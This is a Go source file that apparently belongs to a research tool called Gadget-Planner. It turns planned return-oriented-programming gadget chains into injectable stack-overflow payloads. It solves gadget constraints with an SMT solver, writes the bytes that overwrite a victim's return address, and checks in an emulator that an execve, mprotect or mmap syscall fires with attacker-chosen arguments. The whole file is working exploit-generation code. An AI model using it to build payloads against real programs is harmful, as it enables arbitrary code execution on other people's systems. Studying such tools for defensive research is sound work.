// Package payload implements Gadget-Planner's post-processing stage (paper
// Section IV-A step 4): a complete partial-order plan is linearized, the
// gadget chain is walked forward symbolically over the concrete payload
// layout, every residual constraint (conditional-jump pre-conditions,
// indirect-branch targets, goal register values, slot demands) is collected
// and discharged with the SMT solver, and the model becomes the byte
// payload placed on the victim's stack.
//
// The package also verifies payloads by running them in the emulator and
// observing the goal syscall — the ground-truth check.
package payload

import (
	"encoding/binary"
	"errors"
	"fmt"
	"sort"

	"github.com/nofreelunch/gadget-planner/internal/emu"
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/solver"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Concretization failures.
var (
	// ErrUncontrolled marks plans whose constraints depend on machine state
	// the attacker does not control (registers at injection time, memory
	// below the overflow).
	ErrUncontrolled = errors.New("payload: constraint depends on uncontrolled state")
	// ErrUnsat marks plans whose collected constraints are unsatisfiable.
	ErrUnsat = errors.New("payload: constraints unsatisfiable")
	// ErrLayout marks irreconcilable payload-cell layouts.
	ErrLayout = errors.New("payload: conflicting payload layout")
)

// Payload is a concrete, injectable attack payload.
type Payload struct {
	// Bytes is the data written at the overflow: Bytes[0:8] overwrites the
	// victim's saved return address.
	Bytes []byte
	// Base is the stack address Bytes[0] will occupy.
	Base uint64
	// Entry is the first gadget's address (== Bytes[0:8] little-endian).
	Entry uint64
	// Chain is the linearized gadget sequence.
	Chain []*gadget.Gadget
	// Goal is the attack this payload triggers.
	Goal planner.Goal
}

// cell is one attacker-controlled payload slot.
type cell struct {
	absOff int64 // offset of the slot within the payload buffer
	size   uint8
	v      *expr.Node
}

// Concretizer turns plans into payloads for a fixed injection address.
type Concretizer struct {
	pool *gadget.Pool
	// bin resolves constant-address reads from immutable sections (jump
	// tables and other data embedded in text).
	bin *sbf.Binary
	// Base is the absolute stack address where the payload will be placed
	// (the overwritten return-address slot). The threat model assumes the
	// attacker knows it (ASLR disabled or leaked, Section III-A).
	Base uint64
	// MaxConflicts bounds each solver query.
	MaxConflicts int64

	// sol is reused across Concretize calls so its verdict cache memoizes
	// repeated universal-validity checks — e.g. opaque predicates, which
	// hold for every value of the junk global they load — and its witness
	// store carries counterexamples (e.g. refuted controllability checks)
	// between plans.
	sol *solver.Solver
}

// NewConcretizer returns a concretizer for the pool's expression builder.
// bin may be nil when static-data resolution is not wanted.
func NewConcretizer(pool *gadget.Pool, bin *sbf.Binary, base uint64) *Concretizer {
	return &Concretizer{
		pool: pool, bin: bin, Base: base, MaxConflicts: 100_000,
	}
}

// solver returns the concretizer's solver, created on first use (so a
// MaxConflicts override set after construction still takes effect).
func (c *Concretizer) solver() *solver.Solver {
	if c.sol == nil {
		c.sol = solver.New(solver.Options{MaxConflicts: c.MaxConflicts})
	}
	return c.sol
}

// staticRead resolves a constant-address load against the binary's
// non-writable sections (whose contents cannot change at run time).
func (c *Concretizer) staticRead(addr uint64, size uint8) (uint64, bool) {
	if c.bin == nil {
		return 0, false
	}
	sec := c.bin.SectionAt(addr)
	if sec == nil || sec.Flags&sbf.FlagWrite != 0 ||
		addr+uint64(size) > sec.End() {
		return 0, false
	}
	var v uint64
	off := addr - sec.Addr
	for i := int(size) - 1; i >= 0; i-- {
		v = v<<8 | uint64(sec.Data[off+uint64(i)])
	}
	return v, true
}

// cellVarName names the payload cell at an absolute payload offset.
func cellVarName(absOff int64) string { return fmt.Sprintf("cell_%d", absOff) }

// parseCellVar recovers the offset from a cell variable name.
func parseCellVar(name string) (int64, bool) {
	var off int64
	if _, err := fmt.Sscanf(name, "cell_%d", &off); err != nil {
		return 0, false
	}
	return off, true
}

// Concretize builds the payload bytes realizing the plan, or explains why
// the plan is infeasible.
func (c *Concretizer) Concretize(p *planner.Plan, goal planner.Goal) (*Payload, error) {
	b := c.pool.Builder
	chain := p.Chain()
	if len(chain) == 0 {
		return nil, fmt.Errorf("payload: empty chain")
	}

	cells := make(map[int64]*cell)  // payload slots, by absolute offset
	writes := make(map[int64]wcell) // gadget stores into the payload region
	var constraints []*expr.Node
	fresh := 0

	getCell := func(absOff int64, size uint8) (*expr.Node, error) {
		if existing, ok := cells[absOff]; ok {
			if existing.size != size {
				return nil, fmt.Errorf("%w: slot %d at sizes %d and %d", ErrLayout, absOff, existing.size, size)
			}
			return existing.v, nil
		}
		for off, ex := range cells {
			if off != absOff && off < absOff+int64(size) && absOff < off+int64(ex.size) {
				return nil, fmt.Errorf("%w: overlapping slots %d and %d", ErrLayout, off, absOff)
			}
		}
		v := b.Var(cellVarName(absOff), 64)
		cells[absOff] = &cell{absOff: absOff, size: size, v: v}
		return v, nil
	}

	// Symbolic register state across the chain. Registers start as fresh
	// uncontrolled variables; any surviving reference to them means the
	// plan depends on uncontrolled state.
	be := c.pool.Backend()
	regState := make([]*expr.Node, be.NumRegs())
	for r := range regState {
		regState[r] = b.Var(fmt.Sprintf("init_%s", be.RegName(isa.Reg(r))), 64)
	}

	// cur tracks where the current gadget's entry rsp points inside the
	// payload: the victim's ret consumes Bytes[0:8], so the first gadget
	// starts with rsp at offset 8.
	cur := int64(8)
	if _, err := getCell(0, 8); err != nil {
		return nil, err
	}
	constraints = append(constraints, b.Eq(cells[0].v, b.Const(chain[0].Location, 64)))

	// Scratch region for controlled-memory dereferences: past any plausible
	// chain extent (chains longer than this fail concretization) but close
	// enough to keep payloads compact for real injection vectors.
	const scratchStart = int64(0x200)
	scratch := scratchStart
	usedScratch := false

	for i, g := range chain {
		// Bind the gadget's local variable namespace (dm_* deref results are
		// bound below, in program order, since later addresses may depend on
		// earlier reads).
		bind := make(map[string]*expr.Node)
		names := effectVars(g.Effect)
		for _, name := range names {
			switch {
			case symex.IsDerefVar(name):
				// bound below
			case isStack(name):
				off, _ := symex.ParseStackVar(name)
				abs := cur + off
				size := g.Effect.Inputs[off]
				if size == 0 {
					size = 8
				}
				node, err := c.resolveRead(b, abs, size, cells, writes, getCell)
				if err != nil {
					return nil, err
				}
				bind[name] = node
			case isReg(name):
				r, _ := symex.IsRegVar(name)
				bind[name] = regState[r]
			default:
				// Flags and opaque variables: fresh uncontrolled values.
				fresh++
				width := uint8(expr.BoolWidth)
				bind[name] = b.Var(fmt.Sprintf("unk_%d", fresh), width)
			}
		}

		// Controlled-memory accesses: each group of addresses sharing a base
		// (constant mutual offsets, e.g. [rbp-0x30] and [rbp-0x40]) gets one
		// scratch window; the anchor address is pinned by a constraint and
		// the other members follow from their fixed geometry. Read values
		// become the payload cells at the resolved offsets (paper Section
		// IV-B's unconstrained deref values).
		type derefGroup struct {
			ea     *expr.Node
			anchor int64
			lo, hi int64
		}
		var groups []derefGroup
		place := func(eaInst *expr.Node, size uint8) (int64, error) {
			for _, grp := range groups {
				diff := b.Sub(eaInst, grp.ea)
				if diff.IsConst() {
					off := grp.anchor + int64(diff.Val)
					if off < grp.lo || off+int64(size) > grp.hi {
						return 0, fmt.Errorf("%w: deref offset outside scratch window", ErrLayout)
					}
					return off, nil
				}
			}
			usedScratch = true
			lo := scratch
			scratch += 512
			grp := derefGroup{ea: eaInst, anchor: lo + 256, lo: lo, hi: scratch}
			groups = append(groups, grp)
			constraints = append(constraints,
				b.Eq(eaInst, b.Const(c.Base+uint64(grp.anchor), 64)))
			return grp.anchor, nil
		}
		for _, acc := range g.Effect.MemReads {
			ea := expr.Subst(b, acc.Addr, bind)
			if ea.IsConst() {
				// Fixed address. Immutable sections (jump tables in text)
				// resolve to their static bytes; writable globals stay
				// ambient, and conditions over them must be universally
				// valid (opaque predicates are).
				if v, ok := c.staticRead(ea.Val, acc.Size); ok {
					bind[acc.Val.Name] = b.Const(v, 64)
					continue
				}
				fresh++
				bind[acc.Val.Name] = b.Var(fmt.Sprintf("amb_%d", fresh), 64)
				continue
			}
			slot, err := place(ea, acc.Size)
			if err != nil {
				return nil, err
			}
			cellNode, err := getCell(slot, acc.Size)
			if err != nil {
				return nil, err
			}
			bind[acc.Val.Name] = cellNode
		}
		for _, acc := range g.Effect.MemWrites {
			ea := expr.Subst(b, acc.Addr, bind)
			if ea.IsConst() {
				continue // store to a fixed writable global: harmless
			}
			if _, err := place(ea, acc.Size); err != nil {
				return nil, err
			}
		}

		// Pre-conditions must hold on this instance.
		for _, cond := range g.Effect.Conds {
			constraints = append(constraints, expr.Subst(b, cond, bind))
		}

		// Control must continue at the next gadget.
		if i+1 < len(chain) {
			if g.Effect.NextRIP == nil {
				return nil, fmt.Errorf("payload: syscall gadget %v before end of chain", g)
			}
			rip := expr.Subst(b, g.Effect.NextRIP, bind)
			constraints = append(constraints, b.Eq(rip, b.Const(chain[i+1].Location, 64)))
		}

		// Apply register effects.
		newState := make([]*expr.Node, len(regState))
		for r := range newState {
			newState[r] = expr.Subst(b, g.Effect.Regs[r], bind)
		}
		regState = newState

		// Record stores into the payload region.
		for off, w := range g.Effect.StackWrites {
			abs := cur + off
			writes[abs] = wcell{val: expr.Subst(b, w.Val, bind), size: w.Size}
		}

		cur += g.Effect.StackDelta
	}

	// Compute the payload extent so pointer data lands past everything.
	// Chain cells must stay below the deref scratch region.
	extent := cur
	for off, cl := range cells {
		if usedScratch && off >= scratchStart {
			continue // scratch slots accounted below
		}
		if end := off + int64(cl.size); end > extent {
			extent = end
		}
	}
	for off, w := range writes {
		if end := off + int64(w.size); end > extent {
			extent = end
		}
	}
	if usedScratch {
		if extent > scratchStart {
			return nil, fmt.Errorf("%w: chain overlaps deref scratch region", ErrLayout)
		}
		extent = scratch
	}
	extent = (extent + 7) &^ 7

	// Goal constraints on the final (syscall-time) register state, placing
	// pointer payloads after the chain.
	type datum struct {
		off  int64
		data []byte
	}
	var data []datum
	goalRegs := make([]isa.Reg, 0, len(goal.Regs))
	for r := range goal.Regs {
		goalRegs = append(goalRegs, r)
	}
	sort.Slice(goalRegs, func(i, j int) bool { return goalRegs[i] < goalRegs[j] })
	for _, r := range goalRegs {
		spec := goal.Regs[r]
		switch spec.Kind {
		case planner.SpecConst:
			constraints = append(constraints, b.Eq(regState[r], b.Const(spec.Value, 64)))
		case planner.SpecPointer:
			off := extent
			extent = (extent + int64(len(spec.Data)) + 7) &^ 7
			data = append(data, datum{off: off, data: spec.Data})
			constraints = append(constraints, b.Eq(regState[r], b.Const(c.Base+uint64(off), 64)))
		}
	}

	// Pointer data must not collide with used cells or writes.
	for _, d := range data {
		for off, cl := range cells {
			if off < d.off+int64(len(d.data)) && d.off < off+int64(cl.size) {
				return nil, fmt.Errorf("%w: pointer data overlaps slot %d", ErrLayout, off)
			}
		}
	}

	// Every constraint variable must be an attacker-controlled cell.
	// Constraints over ambient values are acceptable only when universally
	// valid (they then hold regardless of the uncontrolled state) — this is
	// how opaque-predicate pre-conditions are discharged.
	s := c.solver()
	kept := constraints[:0]
	for _, con := range constraints {
		controlled := true
		for _, name := range expr.Vars(con) {
			if _, ok := parseCellVar(name); !ok {
				controlled = false
				break
			}
		}
		if controlled {
			kept = append(kept, con)
			continue
		}
		if !s.Valid(b, con) {
			return nil, fmt.Errorf("%w: constraint %s", ErrUncontrolled, con)
		}
	}
	constraints = kept

	// Solve.
	all := b.AndAll(constraints)
	res, model := s.Check(all)
	if res != solver.Sat {
		return nil, fmt.Errorf("%w: solver says %v", ErrUnsat, res)
	}

	// Materialize bytes.
	buf := make([]byte, extent)
	for i := range buf {
		buf[i] = 0x41 // filler
	}
	offs := make([]int64, 0, len(cells))
	for off := range cells {
		offs = append(offs, off)
	}
	sort.Slice(offs, func(i, j int) bool { return offs[i] < offs[j] })
	for _, off := range offs {
		cl := cells[off]
		v := model[cellVarName(off)] // zero if unconstrained
		for i := 0; i < int(cl.size) && off+int64(i) < extent; i++ {
			if off+int64(i) >= 0 {
				buf[off+int64(i)] = byte(v >> (8 * i))
			}
		}
	}
	for _, d := range data {
		copy(buf[d.off:], d.data)
	}

	return &Payload{
		Bytes: buf,
		Base:  c.Base,
		Entry: chain[0].Location,
		Chain: chain,
		Goal:  goal,
	}, nil
}

type wcell struct {
	val  *expr.Node
	size uint8
}

// resolveRead returns the expression a gadget sees when reading the payload
// region at abs: the latest gadget store there, or a payload cell, or an
// uncontrolled value for negative offsets outside the payload.
func (c *Concretizer) resolveRead(b *expr.Builder, abs int64, size uint8,
	cells map[int64]*cell, writes map[int64]wcell,
	getCell func(int64, uint8) (*expr.Node, error)) (*expr.Node, error) {

	if w, ok := writes[abs]; ok {
		if w.size != size {
			return nil, fmt.Errorf("%w: read size %d of %d-byte store at %d", ErrLayout, size, w.size, abs)
		}
		return w.val, nil
	}
	for off, w := range writes {
		if off != abs && off < abs+int64(size) && abs < off+int64(w.size) {
			return nil, fmt.Errorf("%w: read overlaps store at %d", ErrLayout, off)
		}
	}
	if abs < 0 {
		// Below the injected payload: memory the attacker does not control.
		return b.Var(fmt.Sprintf("below_%d", -abs), 64), nil
	}
	return getCell(abs, size)
}

func effectVars(eff *symex.Effect) []string {
	nodes := make([]*expr.Node, 0, len(eff.Regs)+8)
	for r := range eff.Regs {
		nodes = append(nodes, eff.Regs[r])
	}
	if eff.NextRIP != nil {
		nodes = append(nodes, eff.NextRIP)
	}
	nodes = append(nodes, eff.Conds...)
	for _, w := range eff.StackWrites {
		nodes = append(nodes, w.Val)
	}
	for _, a := range eff.MemReads {
		nodes = append(nodes, a.Addr)
	}
	for _, a := range eff.MemWrites {
		nodes = append(nodes, a.Addr, a.Val)
	}
	return expr.Vars(nodes...)
}

func isStack(name string) bool {
	_, ok := symex.ParseStackVar(name)
	return ok
}

func isReg(name string) bool {
	_, ok := symex.IsRegVar(name)
	return ok
}

// Verify injects the payload into a fresh emulator running the binary and
// reports whether the goal syscall fires with the demanded register values.
// This is the end-to-end ground truth for every generated payload.
func Verify(bin *sbf.Binary, p *Payload, maxSteps uint64) error {
	be, ok := isa.ByName(bin.ISA)
	if !ok {
		return fmt.Errorf("payload: unknown binary ISA %q", bin.ISA)
	}
	m := emu.NewMachineISA(be)
	os := emu.NewOS()
	m.OS = os
	m.Mem.LoadBinary(bin)

	// Map a stack around the injection point and place the payload so that
	// Bytes[0] sits at Base: the state just before the victim's "ret".
	stackBase := (p.Base - 0x8000) &^ (emu.PageSize - 1)
	m.Mem.Map(stackBase, 0x10000+uint64(len(p.Bytes)), emu.PermRead|emu.PermWrite)
	if err := m.Mem.WriteBytes(p.Base, p.Bytes); err != nil {
		return fmt.Errorf("payload: inject: %w", err)
	}
	m.Regs[be.SP()] = p.Base + 8
	m.RIP = p.Entry

	if maxSteps == 0 {
		maxSteps = 100_000
	}
	err := m.Run(maxSteps)

	// Locate the goal syscall number.
	var want uint64
	switch p.Goal.Name {
	case "execve":
		want = emu.SysExecve
	case "mprotect":
		want = emu.SysMprotect
	case "mmap":
		want = emu.SysMmap
	default:
		return fmt.Errorf("payload: unknown goal %q", p.Goal.Name)
	}
	ev := os.EventFor(want)
	if ev == nil {
		if err != nil {
			return fmt.Errorf("payload: goal syscall never fired: %w", err)
		}
		return errors.New("payload: goal syscall never fired")
	}

	// Check demanded argument registers against the backend's syscall ABI.
	abi := be.Syscall()
	argIdx := make(map[isa.Reg]int, len(abi.Args))
	for i, r := range abi.Args {
		argIdx[r] = i
	}
	for r, spec := range p.Goal.Regs {
		if r == abi.Num {
			continue // implied by the syscall number match
		}
		idx, ok := argIdx[r]
		if !ok {
			continue
		}
		switch spec.Kind {
		case planner.SpecConst:
			if ev.Args[idx] != spec.Value {
				return fmt.Errorf("payload: %s = %#x, want %#x", r, ev.Args[idx], spec.Value)
			}
		case planner.SpecPointer:
			got, err := m.Mem.ReadBytes(ev.Args[idx], len(spec.Data))
			if err != nil {
				return fmt.Errorf("payload: %s points at unreadable memory: %w", r, err)
			}
			if string(got) != string(spec.Data) {
				return fmt.Errorf("payload: %s points at %q, want %q", r, got, spec.Data)
			}
		}
	}
	return nil
}

// Dump renders the payload layout for reports: one line per 8-byte slot.
func (p *Payload) Dump() string {
	out := fmt.Sprintf("payload @ %#x, %d bytes, goal %s\n", p.Base, len(p.Bytes), p.Goal.Name)
	for off := 0; off+8 <= len(p.Bytes); off += 8 {
		v := binary.LittleEndian.Uint64(p.Bytes[off:])
		out += fmt.Sprintf("  +%04x: %016x\n", off, v)
	}
	return out
}
